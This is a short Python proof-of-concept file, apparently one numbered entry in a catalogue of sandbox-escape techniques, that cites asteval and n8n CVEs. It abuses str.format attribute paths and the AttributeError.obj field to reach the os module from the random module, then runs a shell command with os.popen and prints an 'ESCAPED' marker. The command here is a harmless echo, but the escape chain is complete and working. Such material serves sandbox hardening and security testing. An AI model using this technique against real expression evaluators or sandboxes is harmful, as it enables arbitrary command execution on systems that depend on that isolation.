# escape: 002
# technique: AttributeError.obj (3.10+) returns the live object at the end of a format path
# family: attr
# goal: exec
# first-seen: asteval CVE-2025-24359; n8n CVE-2026-0863
# min-python: 3.10
import random
try: '{0.choice.__globals__[_os].nope}'.format(random)
except (AttributeError, KeyError):
    try: '{0._os.nope}'.format(random)
    except AttributeError as e: o = e.obj
if o.popen('echo obj').read() == 'obj\n': print('ESCAPED:exc.obj')
